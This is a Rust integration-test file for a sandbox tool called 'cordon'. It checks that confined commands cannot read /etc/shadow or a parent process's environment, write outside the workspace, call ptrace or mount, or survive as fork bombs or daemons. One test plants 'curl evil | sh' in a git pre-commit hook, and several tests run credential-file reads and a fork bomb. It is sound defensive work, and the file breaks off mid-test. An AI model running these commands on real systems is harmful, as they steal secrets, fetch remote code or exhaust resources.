//! Confinement integration tests: every scenario attempts the real forbidden operation in a
//! command run by the real `cordon exec`, and asserts that it was stopped (and, for limits,
//! that cordon said which limit stopped it, and that nothing the call started survives it).
//!
//! Each scenario runs in its own `cordon` process, because confinement is irreversible and a
//! test must never depend on what another one applied. Where it is cheap and harmless, a
//! control runs the same action unconfined and shows that it works, so a refusal is the
//! confinement's doing and the test would fail without it. A machine that cannot confine
//! (no Landlock ABI 6, no seccomp, no cgroup limits) makes the affected tests skip with a
//! message saying what is missing; no test passes on an unconfined run (`common::exec`
//! rejects runs where cordon refused or degraded).

use crate::common::{
    CORDON, Need, Sandbox, assert_full_enforcement, assert_no_survivors, exists, marker, path_str,
    skip, skip_msg, unconfined, unique_token,
};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Shell snippet: wait (bounded) until a background process has created `ready`.
const WAIT_READY: &str =
    "i=0; while [ ! -e ready ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done";

const EPERM: &str = "(os error 1)";
const ENOSYS: &str = "(os error 38)";

// ---------------------------------------------------------------------------------------
// Files (Landlock)
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn secret_outside_workspace_is_unreadable() {
    if skip(
        "secret_outside_workspace_is_unreadable",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let sb = Sandbox::new();
    let secret = sb.outside().join("secret.txt");
    let content = format!("cordon-secret-{}", unique_token());
    std::fs::write(&secret, &content).unwrap();
    let secret = path_str(&secret);

    let control = unconfined(&["cat", secret]);
    assert_eq!(control.stdout, content, "control: the secret is readable");

    let run = sb.exec(&[], &["cat", secret]);
    assert_ne!(
        run.code(),
        0,
        "cat of a secret outside the workspace: {run:?}"
    );
    assert!(refused_by_sandbox(&run.stderr), "{run:?}");
    // Listing and copying are other ways to the same bytes.
    let outside = path_str(sb.outside());
    let run2 = sb.exec(
        &[],
        &[
            "sh",
            "-c",
            &format!("ls -a {outside}; cp {secret} ./copy; head -c 100 {secret}; true"),
        ],
    );
    for r in [&run, &run2] {
        assert!(
            !r.output().contains(&content),
            "the secret leaked into the output: {r:?}"
        );
    }
    assert!(
        !run2.stdout.contains("secret.txt"),
        "listing leaked: {run2:?}"
    );
    assert!(!exists(sb.ws().join("copy")), "the secret was copied in");
}

#[cordon_test::test]
fn etc_shadow_is_unreadable() {
    if skip("etc_shadow_is_unreadable", Need::LandlockSeccomp) {
        return;
    }
    // Control: only meaningful where we could read it unconfined (root).
    let Ok(shadow) = std::fs::read_to_string("/etc/shadow") else {
        skip_msg(
            "etc_shadow_is_unreadable",
            "/etc/shadow is missing or not readable unconfined (not root): refusal would prove nothing",
        );
        return;
    };
    let run = Sandbox::new().exec(&[], &["cat", "/etc/shadow"]);
    assert_ne!(run.code(), 0, "{run:?}");
    assert!(refused_by_sandbox(&run.stderr), "{run:?}");
    assert!(run.stdout.is_empty(), "shadow content leaked: {run:?}");
    if let Some(first) = shadow.lines().next() {
        assert!(!run.output().contains(first), "shadow content leaked");
    }
}

#[cordon_test::test]
fn root_home_is_unreadable() {
    if skip("root_home_is_unreadable", Need::LandlockSeccomp) {
        return;
    }
    if std::fs::read_dir("/root").is_err() {
        skip_msg(
            "root_home_is_unreadable",
            "/root is missing or not listable unconfined (not root): refusal would prove nothing",
        );
        return;
    }
    let run = Sandbox::new().exec(&[], &["ls", "-a", "/root"]);
    assert_ne!(run.code(), 0, "{run:?}");
    assert!(refused_by_sandbox(&run.stderr), "{run:?}");
    assert!(run.stdout.is_empty(), "/root listing leaked: {run:?}");
}

#[cordon_test::test]
fn write_outside_workspace_is_refused() {
    if skip("write_outside_workspace_is_refused", Need::LandlockSeccomp) {
        return;
    }
    let sb = Sandbox::new();
    let out = path_str(sb.outside());
    // Control: the directory itself is writable, by us.
    std::fs::write(sb.outside().join("control"), "x").unwrap();

    let run = sb.exec(
        &[],
        &[
            "sh",
            "-c",
            &format!("echo pwned > {out}/pwned; mkdir {out}/dir; ln -s /etc {out}/link; rm -f {out}/control; true"),
        ],
    );
    assert!(refused_by_sandbox(&run.stderr), "{run:?}");
    for name in ["pwned", "dir", "link"] {
        assert!(
            !exists(sb.outside().join(name)),
            "{name} was created outside: {run:?}"
        );
    }
    assert!(
        exists(sb.outside().join("control")),
        "a file outside was deleted"
    );
}

#[cordon_test::test]
fn write_inside_workspace_works() {
    if skip("write_inside_workspace_works", Need::LandlockSeccomp) {
        return;
    }
    let sb = Sandbox::new();
    let run = sb.exec(
        &[],
        &[
            "sh",
            "-c",
            "echo ok > inside.txt && mkdir sub && echo deep > sub/f && mv sub/f sub/g && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
        ],
    );
    assert_eq!(run.code(), 0, "{run:?}");
    assert_eq!(
        run.stdout, "tmp\n",
        "the private TMPDIR is writable: {run:?}"
    );
    assert_eq!(
        std::fs::read_to_string(sb.ws().join("inside.txt")).unwrap(),
        "ok\n"
    );
    assert_eq!(
        std::fs::read_to_string(sb.ws().join("sub/g")).unwrap(),
        "deep\n"
    );
}

// ---------------------------------------------------------------------------------------
// Network
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn tcp_connect_to_loopback_listener_is_refused() {
    if skip(
        "tcp_connect_to_loopback_listener_is_refused",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();

    let control = unconfined(&[CORDON, "probe", "tcp-connect", &port]);
    assert_eq!(
        control.code(),
        0,
        "control: unconfined connect works: {control:?}"
    );

    let run = Sandbox::new().probe("tcp-connect", Some(&port));
    assert_eq!(run.code(), 1, "{run:?}");
    assert!(run.stdout.contains("refused"), "{run:?}");
}

/// UDP never reaches the host: in the sandbox's own network namespace the send succeeds
/// there (its loopback is private, so UDP is allowed), but the host's receiver gets nothing;
/// where the host's namespace is shared (no namespaces), seccomp refuses the socket.
#[cordon_test::test]
fn udp_send_never_reaches_the_host() {
    if skip("udp_send_never_reaches_the_host", Need::LandlockSeccomp) {
        return;
    }
    let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver
        .set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let port = receiver.local_addr().unwrap().port().to_string();
    let mut buf = [0u8; 64];

    let sb = Sandbox::new();
    let run = sb.probe("udp", Some(&port));
    assert!(
        run.code() == 0 || run.stdout.contains(EPERM),
        "neither sent in its own namespace nor refused: {run:?}"
    );
    assert!(
        receiver.recv_from(&mut buf).is_err(),
        "a datagram arrived from the confined command: {run:?}"
    );

    let policy = sb.probe_policy();
    let mut cmd = sb.command(&["--policy", &policy], &[CORDON, "probe", "udp", &port]);
    cmd.env("CORDON_SIMULATE_MISSING", "namespaces");
    let shared = sb.exec_cmd(cmd);
    assert_eq!(shared.code(), 1, "{shared:?}");
    assert!(shared.stdout.contains(EPERM), "{shared:?}");
    assert!(
        receiver.recv_from(&mut buf).is_err(),
        "a datagram arrived from the confined command without namespaces"
    );

    let control = unconfined(&[CORDON, "probe", "udp", &port]);
    assert_eq!(
        control.code(),
        0,
        "control: unconfined send works: {control:?}"
    );
    let (n, _) = receiver
        .recv_from(&mut buf)
        .expect("control datagram arrives");
    assert_eq!(&buf[..n], b"cordon-probe");
}

// ---------------------------------------------------------------------------------------
// Kernel attack surface (seccomp, capabilities, Landlock scoping)
// ---------------------------------------------------------------------------------------

/// Runs probe `name` confined and asserts it was refused with `errno_text`. When `control`
/// is set, also runs it unconfined: a different answer there shows the refusal is ours; the
/// same answer means this host refuses it anyway, which we say rather than hide.
fn assert_probe_refused(test: &str, name: &str, errno_text: &str, control: bool) {
    if skip(test, Need::LandlockSeccomp) {
        return;
    }
    let run = Sandbox::new().probe(name, None);
    assert_eq!(run.code(), 1, "probe {name} was not refused: {run:?}");
    assert!(
        run.stdout.contains(errno_text),
        "probe {name}: expected {errno_text}: {run:?}"
    );
    if control {
        let control = unconfined(&[CORDON, "probe", name]);
        if control.code() == 1 && control.stdout.contains(errno_text) {
            eprintln!(
                "NOTE {test}: this host refuses `{name}` unconfined too ({}), so here the \
                 test cannot tell cordon's refusal from the host's",
                control.stdout.trim()
            );
        }
    }
}

// No unconfined control: PTRACE_ATTACH would stop the test runner itself.
#[cordon_test::test]
fn ptrace_is_refused() {
    assert_probe_refused("ptrace_is_refused", "ptrace", EPERM, false);
}

// No unconfined control: as root it would really mount a tmpfs on the host.
#[cordon_test::test]
fn mount_is_refused() {
    assert_probe_refused("mount_is_refused", "mount", EPERM, false);
}

#[cordon_test::test]
fn unshare_is_refused() {
    assert_probe_refused("unshare_is_refused", "unshare", EPERM, true);
}

#[cordon_test::test]
fn clone_with_newuser_is_refused() {
    assert_probe_refused(
        "clone_with_newuser_is_refused",
        "clone-newuser",
        EPERM,
        true,
    );
}

#[cordon_test::test]
fn bpf_is_refused() {
    assert_probe_refused("bpf_is_refused", "bpf", EPERM, true);
}

#[cordon_test::test]
fn io_uring_is_refused() {
    assert_probe_refused("io_uring_is_refused", "io_uring", EPERM, true);
}

// The confined probe's parent is the `cordon exec` process.
#[cordon_test::test]
fn signalling_the_parent_is_refused() {
    assert_probe_refused(
        "signalling_the_parent_is_refused",
        "signal-parent",
        EPERM,
        true,
    );
}

// On kernels built without the x32 ABI the unconfined control gets ENOSYS as well; the test
// then says so, but still guards kernels that have x32.
#[cordon_test::test]
fn x32_syscalls_get_enosys() {
    assert_probe_refused("x32_syscalls_get_enosys", "x32", ENOSYS, true);
}

#[cordon_test::test]
fn int80_syscall_is_killed_by_sigsys() {
    if skip("int80_syscall_is_killed_by_sigsys", Need::LandlockSeccomp) {
        return;
    }
    let run = Sandbox::new().probe("int80", None);
    assert_eq!(
        run.code(),
        128 + libc::SIGSYS,
        "int 0x80 must kill the process with SIGSYS: {run:?}"
    );
}

#[cordon_test::test]
fn clone3_gets_enosys_and_python_threads_still_work() {
    if skip(
        "clone3_gets_enosys_and_python_threads_still_work",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    // Control: unconfined, clone3 with a null argument fails with something other than
    // ENOSYS (EFAULT/EINVAL), so ENOSYS below is the filter's answer.
    let control = unconfined(&[CORDON, "probe", "clone3"]);
    assert!(!control.stdout.contains(ENOSYS), "control: {control:?}");

    let sb = Sandbox::new();
    let run = sb.probe("clone3", None);
    assert_eq!(run.code(), 1, "{run:?}");
    assert!(
        run.stdout.contains(ENOSYS),
        "clone3 must be ENOSYS: {run:?}"
    );

    // ENOSYS (not EPERM) is what makes glibc fall back to clone, so threads keep working.
    let python = "/usr/bin/python3";
    if !Path::new(python).exists() {
        skip_msg(
            "clone3_gets_enosys_and_python_threads_still_work (threads part)",
            "no /usr/bin/python3",
        );
        return;
    }
    let script = "import threading\n\
                  out = []\n\
                  ts = [threading.Thread(target=lambda i=i: out.append(i)) for i in range(8)]\n\
                  [t.start() for t in ts]\n\
                  [t.join() for t in ts]\n\
                  print(sum(out))";
    let run = sb.exec(&[], &[python, "-c", script]);
    assert_eq!(run.code(), 0, "{run:?}");
    assert_eq!(run.stdout.trim(), "28", "{run:?}");
}

// ---------------------------------------------------------------------------------------
// Environment
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn environment_is_scrubbed() {
    if skip("environment_is_scrubbed", Need::LandlockSeccomp) {
        return;
    }
    let secret = format!("cordon-env-secret-{}", unique_token());
    let control = {
        let mut cmd = Command::new("env");
        cmd.env("CORDON_TEST_SECRET", &secret);
        crate::common::run_guarded(cmd, crate::common::HANG_GUARD)
    };
    assert!(control.stdout.contains(&secret), "control: env shows it");

    let sb = Sandbox::new();
    let mut cmd = sb.command(&[], &["env"]);
    cmd.env("CORDON_TEST_SECRET", &secret);
    let run = sb.exec_cmd(cmd);
    assert_eq!(run.code(), 0, "{run:?}");
    assert!(!run.output().contains("CORDON_TEST_SECRET"), "{run:?}");
    assert!(!run.output().contains(&secret), "{run:?}");
    for var in ["PATH", "HOME", "TMPDIR"] {
        assert!(
            run.stdout
                .lines()
                .any(|l| l.starts_with(&format!("{var}="))),
            "{var} is not set: {run:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// The process tree dies with the call
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn background_job_holding_stdout_does_not_hang_the_call() {
    if skip(
        "background_job_holding_stdout_does_not_hang_the_call",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let t = unique_token();
    // The background sleep inherits stdout; a reader waiting for EOF would wait for it.
    let run = Sandbox::new().exec(&[], &["sh", "-c", &format!("sleep {t} & echo hi")]);
    assert!(
        run.elapsed < Duration::from_secs(20),
        "the call waited for the background job: {run:?}"
    );
    assert_eq!(run.code(), 0, "{run:?}");
    assert_eq!(run.stdout, "hi\n");
    assert_no_survivors(&t, "background job");
}

#[cordon_test::test]
fn setsid_daemon_does_not_survive_the_call() {
    // A new session escapes the process-group kill; only the cgroup catches it.
    if skip("setsid_daemon_does_not_survive_the_call", Need::Cgroups) {
        return;
    }
    let t = unique_token();
    // The main process waits until the daemon is in its own session (it writes `ready` after
    // setsid); otherwise the process-group kill could catch it before it escapes and the
    // test would pass without the cgroup.
    let m = marker(&t);
    let script =
        format!("setsid sh -c ': {m}; echo > ready; exec sleep {t}' & {WAIT_READY}; echo started");
    let sb = Sandbox::new();
    let run = sb.exec(&[], &["sh", "-c", &script]);
    assert_full_enforcement(&run);
    assert!(
        exists(sb.ws().join("ready")),
        "the daemon never started: {run:?}"
    );
    assert_eq!(run.code(), 0, "{run:?}");
    assert_eq!(run.stdout, "started\n");
    assert_no_survivors(&t, "setsid daemon");
}

#[cordon_test::test]
fn double_fork_does_not_survive_the_call() {
    if skip(
        "double_fork_does_not_survive_the_call",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let t = unique_token();
    // The sleep is orphaned (its parent exits at once) and reparented away from the call;
    // `ready` says it started before the main process exits.
    let sb = Sandbox::new();
    let run = sb.exec(
        &[],
        &[
            "sh",
            "-c",
            &format!(
                "(sh -c ': {m}; echo > ready; exec sleep {t} >/dev/null 2>&1' &); {WAIT_READY}; echo forked",
                m = marker(&t)
            ),
        ],
    );
    assert_eq!(run.code(), 0, "{run:?}");
    assert_eq!(run.stdout, "forked\n");
    assert!(
        exists(sb.ws().join("ready")),
        "the grandchild never started: {run:?}"
    );
    assert_no_survivors(&t, "double fork");
}

#[cordon_test::test]
fn fork_bomb_is_contained_by_the_pids_limit() {
    if skip("fork_bomb_is_contained_by_the_pids_limit", Need::Cgroups) {
        return;
    }
    let t = unique_token();
    // The classic bomb (with a name dash accepts); the main process then `exec`s a sleep so
    // it stays alive without needing a fork while the bomb runs into pids.max. The marker
    // lets the survivor scan find every copy of this script.
    let script = format!(
        "bomb(){{ bomb|bomb& }}; bomb; exec sleep 3 # {}",
        marker(&t)
    );
    let run = Sandbox::new().exec(&["--timeout", "10"], &["sh", "-c", &script]);
    assert_full_enforcement(&run);
    assert!(
        run.stderr
            .contains("cordon: stopped by the process/thread limit"),
        "the pids limit was not reported: code {} stderr tail {:?}",
        run.code(),
        tail(&run.stderr)
    );
    assert!(run.elapsed < Duration::from_secs(60), "{:?}", run.elapsed);
    assert_no_survivors(&t, "fork bomb");
}

#[cordon_test::test]
fn memory_balloon_is_stopped_by_the_memory_limit() {
    if skip(
        "memory_balloon_is_stopped_by_the_memory_limit",
        Need::Cgroups,
    ) {
        return;
    }
    let sb = Sandbox::new();
    // A small limit keeps the test quick; `tail` buffers the endless "line" from /dev/zero.
    let policy = sb.policy(
        "memory.toml",
        "extends = \"default\"\n[limits]\nmemory_mb = 64\n",
    );
    let run = sb.exec(
        &["--policy", &policy],
        &["sh", "-c", "head -c 512M /dev/zero | tail > /dev/null"],
    );
    assert_full_enforcement(&run);
    assert_eq!(run.code(), 128 + libc::SIGKILL, "{run:?}");
    assert!(
        run.stderr.contains("cordon: stopped by the memory limit"),
        "{run:?}"
    );
}

#[cordon_test::test]
fn file_size_limit_stops_writes_at_the_limit() {
    if skip(
        "file_size_limit_stops_writes_at_the_limit",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let sb = Sandbox::new();
    let policy = sb.policy(
        "fsize.toml",
        "extends = \"default\"\n[limits]\nfile_size_mb = 1\n",
    );
    let run = sb.exec(
        &["--policy", &policy],
        &["sh", "-c", "head -c 5M /dev/zero > big"],
    );
    assert_eq!(run.code(), 128 + libc::SIGXFSZ, "{run:?}");
    assert!(
        run.stderr
            .contains("cordon: stopped by the file size limit"),
        "{run:?}"
    );
    let len = std::fs::metadata(sb.ws().join("big")).unwrap().len();
    assert_eq!(len, 1024 * 1024, "the file must stop at the limit");
}

#[cordon_test::test]
fn open_files_limit_is_enforced() {
    if skip("open_files_limit_is_enforced", Need::LandlockSeccomp) {
        return;
    }
    // `paste` opens all its inputs before reading any.
    let many = "paste $(yes /dev/null | head -n 64) > /dev/null";
    let control = unconfined(&["sh", "-c", &format!("ulimit -n 1024; {many}")]);
    assert_eq!(
        control.code(),
        0,
        "control: 64 files open fine: {control:?}"
    );

    let sb = Sandbox::new();
    let policy = sb.policy(
        "nofile.toml",
        "extends = \"default\"\n[limits]\nopen_files = 32\n",
    );
    let run = sb.exec(
        &["--policy", &policy],
        &["sh", "-c", &format!("ulimit -n; {many}")],
    );
    assert!(run.stdout.starts_with("32\n"), "RLIMIT_NOFILE: {run:?}");
    assert_ne!(run.code(), 0, "{run:?}");
    assert!(run.stderr.contains("Too many open files"), "{run:?}");
    assert!(
        run.stderr
            .contains("cordon: stopped by the open files limit"),
        "{run:?}"
    );
}

#[cordon_test::test]
fn timeout_kills_grandchildren() {
    if skip("timeout_kills_grandchildren", Need::LandlockSeccomp) {
        return;
    }
    let (a, b) = (unique_token(), unique_token());
    let run = Sandbox::new().exec(
        &["--timeout", "2"],
        &["sh", "-c", &format!("sleep {a} & sleep {b} & wait")],
    );
    assert_eq!(run.code(), 137, "{run:?}");
    assert!(
        run.stderr
            .contains("cordon: stopped by the wall-clock timeout"),
        "{run:?}"
    );
    // At least the timeout (it really waited), nowhere near the sleeps.
    assert!(run.elapsed >= Duration::from_millis(1900), "{run:?}");
    assert!(run.elapsed < Duration::from_secs(20), "{run:?}");
    assert_no_survivors(&a, "timeout grandchild");
    assert_no_survivors(&b, "timeout grandchild");
}

// ---------------------------------------------------------------------------------------
// Output
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn gigabyte_of_output_keeps_cordon_memory_small() {
    if skip(
        "gigabyte_of_output_keeps_cordon_memory_small",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let sb = Sandbox::new();
    let mut cmd = sb.command(&[], &["sh", "-c", "head -c 1G /dev/zero"]);
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id() as i32;
    let mut stderr = child.stderr.take().unwrap();
    let stderr = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = std::io::Read::read_to_string(&mut stderr, &mut s);
        s
    });
    // Hang guard: kill cordon if it has not finished long after any plausible run.
    let (done, guard) = std::sync::mpsc::channel::<()>();
    let watchdog = std::thread::spawn(move || {
        if guard.recv_timeout(Duration::from_secs(300)).is_err() {
            // SAFETY: signalling the child we have not reaped yet.
            unsafe { libc::kill(pid, libc::SIGKILL) };
            return true;
        }
        false
    });
    let started = Instant::now();
    let mut status = 0;
    // SAFETY: zeroed rusage is a valid value for wait4 to fill in.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // wait4 gives this one child's peak RSS (cordon, or a descendant it reaped, whichever is
    // larger), unlike RUSAGE_CHILDREN which would mix in other tests' children.
    // SAFETY: pid is our unreaped child; both pointers are valid for writes.
    let reaped = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    let _ = done.send(());
    let hung = watchdog.join().unwrap();
    let elapsed = started.elapsed();
    let stderr = stderr.join().unwrap();
    assert_eq!(reaped, pid);
    assert!(!hung, "cordon exec of 1 GiB output hung for 300 s");
    assert!(libc::WIFEXITED(status), "status {status:#x}: {stderr}");
    assert_eq!(libc::WEXITSTATUS(status), 0, "{stderr}");
    let peak_mb = usage.ru_maxrss / 1024;
    eprintln!("1 GiB of output: {elapsed:?}, peak RSS {peak_mb} MiB");
    assert!(
        peak_mb < 100,
        "peak RSS {peak_mb} MiB while passing 1 GiB through"
    );
    // std must not try to reap it again.
    std::mem::forget(child);
}

// ---------------------------------------------------------------------------------------
// Exit statuses and errors of `cordon exec`
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn exit_status_is_passed_through() {
    if skip("exit_status_is_passed_through", Need::LandlockSeccomp) {
        return;
    }
    let sb = Sandbox::new();
    for code in [0, 1, 3, 42] {
        let run = sb.exec(&[], &["sh", "-c", &format!("exit {code}")]);
        assert_eq!(run.code(), code, "{run:?}");
    }
}

#[cordon_test::test]
fn death_by_signal_is_128_plus_signal() {
    if skip("death_by_signal_is_128_plus_signal", Need::LandlockSeccomp) {
        return;
    }
    let sb = Sandbox::new();
    for (name, sig) in [("TERM", libc::SIGTERM), ("KILL", libc::SIGKILL)] {
        let run = sb.exec(&[], &["sh", "-c", &format!("kill -{name} $$")]);
        assert_eq!(run.code(), 128 + sig, "SIG{name}: {run:?}");
        // cordon itself exits normally with that code; it was not the one killed.
        assert!(run.status.code().is_some(), "{run:?}");
    }
}

#[cordon_test::test]
fn command_not_found_exits_127() {
    if skip("command_not_found_exits_127", Need::LandlockSeccomp) {
        return;
    }
    let run = Sandbox::new().exec(&[], &["cordon-no-such-command"]);
    assert_eq!(run.code(), 127, "{run:?}");
    assert!(run.stderr.contains("cordon-no-such-command"), "{run:?}");
}

/// Runs `cordon exec` with a bad policy: exit 2, one clear message, command never started.
fn assert_policy_error(policy: &str, expected: &[&str]) -> String {
    let sb = Sandbox::new();
    let run = crate::common::run_guarded(
        sb.command(&["--policy", policy], &["touch", "ran"]),
        crate::common::HANG_GUARD,
    );
    assert_eq!(run.code(), 2, "{run:?}");
    assert!(run.stdout.is_empty(), "{run:?}");
    assert!(run.stderr.starts_with("cordon: "), "{run:?}");
    for needle in expected {
        assert!(run.stderr.contains(needle), "missing {needle:?}: {run:?}");
    }
    assert!(!exists(sb.ws().join("ran")), "the command ran anyway");
    run.stderr
}

#[cordon_test::test]
fn missing_policy_file_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("no-such-policy.toml");
    let stderr = assert_policy_error(
        path_str(&path),
        &["cannot read policy file", path_str(&path), "No such file"],
    );
    // The cause is said once, not repeated by the error chain.
    assert_eq!(
        stderr.matches("No such file").count(),
        1,
        "repeated cause: {stderr}"
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
}

#[cordon_test::test]
fn policy_typo_is_a_clear_error() {
    let sb = Sandbox::new();
    let policy = sb.policy(
        "typo.toml",
        "extends = \"default\"\n[limits]\nmemory_mbb = 32\n",
    );
    assert_policy_error(&policy, &[&policy, "memory_mbb", "line 3", "memory_mb"]);
}

#[cordon_test::test]
fn unknown_builtin_policy_is_a_clear_error() {
    assert_policy_error(
        "no-such-builtin",
        &["no-such-builtin", "built-in", "default"],
    );
}

// ---------------------------------------------------------------------------------------
// The test helpers themselves
// ---------------------------------------------------------------------------------------

/// The survivor scan must be able to see a survivor, or every "no survivors" check above
/// would pass vacuously.
#[cordon_test::test]
fn survivor_scan_finds_a_live_process() {
    let t = unique_token();
    let mut sleeper = Command::new("sleep").arg(&t).spawn().unwrap();
    // Right after spawn the new process's cmdline can still read as empty; give it a moment.
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut found = crate::common::processes_with(&t);
    while found.is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
        found = crate::common::processes_with(&t);
    }
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    assert_eq!(found, vec![sleeper.id() as i32]);
    assert!(crate::common::processes_with(&t).is_empty());
}

fn tail(s: &str) -> &str {
    let start = s.len().saturating_sub(300);
    let start = (start..s.len())
        .find(|&i| s.is_char_boundary(i))
        .unwrap_or(0);
    &s[start..]
}

#[cordon_test::test]
fn commands_cannot_write_protected_git_paths() {
    if skip(
        "commands_cannot_write_protected_git_paths",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    if !rustix::process::geteuid().is_root() {
        crate::common::skip_msg(
            "commands_cannot_write_protected_git_paths",
            "not root: protected paths are enforced for commands only through a private mount \
             namespace, which needs root (the file tools still refuse them)",
        );
        return;
    }
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.ws().join(".git/hooks")).unwrap();
    std::fs::write(sb.ws().join(".git/config"), "[core]\n").unwrap();
    let run = sb.exec(
        &[],
        &[
            "sh",
            "-c",
            "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit; \
             echo '[alias] x = !evil' >> .git/config; echo ok > allowed.txt",
        ],
    );
    // The call's `.git` is the git shadow (crate::git): its writes may succeed there, and
    // never reach the operator's gitdir, which the view does not show writable at all.
    assert!(run.status.success(), "{run:?}");
    assert!(!sb.ws().join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(sb.ws().join(".git/config")).unwrap(),
        "[core]\n"
    );
    // The rest of the workspace stays writable, and the bind did not leak to the host.
    assert_eq!(
        std::fs::read_to_string(sb.ws().join("allowed.txt")).unwrap(),
        "ok\n"
    );
    std::fs::write(sb.ws().join(".git/hooks/host-can-write"), "x").unwrap();
}

/// `/dev/tty` is reachable (filesystem.devices), so it must never be the operator's terminal:
/// `cordon exec` run from a terminal (`script` makes one) gives the call no controlling
/// terminal, so the call can neither read the operator's keystrokes nor push input into the
/// operator's shell through it.
#[cordon_test::test]
fn a_call_started_from_the_operators_terminal_cannot_open_it() {
    if skip(
        "a_call_started_from_the_operators_terminal_cannot_open_it",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        crate::common::skip_msg(
            "a_call_started_from_the_operators_terminal_cannot_open_it",
            "`script` (util-linux) is not installed",
        );
        return;
    }
    let sb = Sandbox::new();
    let inner = format!(
        "{} exec --workspace {} -- sh -c 'test -t 0 && echo stdin-is-a-tty; \
         if (exec 3<>/dev/tty); then echo opened-the-terminal; else echo no-terminal; fi'",
        crate::common::CORDON,
        sb.ws().display()
    );
    let out = std::process::Command::new("script")
        .args(["-qec", &inner, "/dev/null"])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("no-terminal"), "{text}");
    assert!(!text.contains("opened-the-terminal"), "{text}");
    assert!(text.contains("No such device or address"), "{text}");
}

#[cordon_test::test]
fn server_environment_is_not_readable_through_proc() {
    if skip(
        "server_environment_is_not_readable_through_proc",
        Need::LandlockSeccomp,
    ) {
        return;
    }
    let secret = format!("cordon-proc-secret-{}", unique_token());
    let sb = Sandbox::new();
    // $PPID is the cordon process that holds the secret in its own environment.
    let mut cmd = sb.command(
        &[],
        &[
            "sh",
            "-c",
            "tr '\\0' '\\n' < /proc/$PPID/environ; echo status=$?",
        ],
    );
    cmd.env("CORDON_TEST_SECRET", &secret);
    let run = sb.exec_cmd(cmd);
    assert!(!run.output().contains(&secret), "{run:?}");
    assert!(refused_by_sandbox(&run.stderr), "{run:?}");
    // Control: unconfined, a process's environ file is readable by the same user.
    let direct = std::fs::read(format!("/proc/{}/environ", std::process::id())).unwrap();
    assert!(
        !direct.is_empty(),
        "control: /proc/<pid>/environ is readable unconfined"
    );
}

/// What a confined process hears when it reaches for something outside: Landlock's EACCES for
/// a path the view holds but the policy does not grant, ENOENT for one the view does not hold
/// at all (the sandbox init mounts only what the policy grants).
fn refused_by_sandbox(stderr: &str) -> bool {
    stderr.contains("Permission denied") || stderr.contains("No such file or directory")
}

// ---------------------------------------------------------------------------------------
// Debuggers inside a call (`[sandbox] ptrace`, issue 33)
// ---------------------------------------------------------------------------------------

/// Inside a call: attaches to a child of its own (allowed), to pid 1 of its namespace (its
/// reaper), to the pid given as argv[1] (a process outside the call), and reads pid 1's memory
/// through /proc; prints `own=E reaper=E outside=E mem=E` (0 or the errno).
const TRACE_SCRIPT: &str = r#"
import ctypes, errno, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def attach(pid):
    return 0 if libc.ptrace(16, pid, None, None) == 0 else ctypes.get_errno()
child = os.fork()
if child == 0:
    time.sleep(30)
    os._exit(0)
own = attach(child)
if own == 0:
    os.waitpid(child, 0)
    libc.ptrace(17, child, None, None)
reaper = attach(1)
outside = attach(int(sys.argv[1]))
try:
    open("/proc/1/mem", "rb").read(1)
    mem = 0
except OSError as e:
    mem = e.errno
os.kill(child, 9)
print(f"own={own} reaper={reaper} outside={outside} mem={mem}")
"#;

/// Issue 33, item 1: processes of one call may trace each other (an ASan build's
/// LeakSanitizer, strace -f, ptrace of its own child), and nothing else: its reaper (pid 1),
/// a process outside the call (another call's, the test runner's) and pid 1's memory stay
/// refused.
#[cordon_test::test]
fn a_call_may_trace_its_own_processes_and_nothing_else() {
    let test = "a_call_may_trace_its_own_processes_and_nothing_else";
    if skip(test, Need::Namespaces) {
        return;
    }
    let sb = Sandbox::new();
    std::fs::write(sb.ws().join("trace.py"), TRACE_SCRIPT).unwrap();
    // Another confined call, running while this one tries to trace it by its host pid.
    let token = crate::common::unique_token();
    let mut other = sb
        .command(&[], &["sleep", &token])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let mut sleeper = crate::common::processes_with(&token);
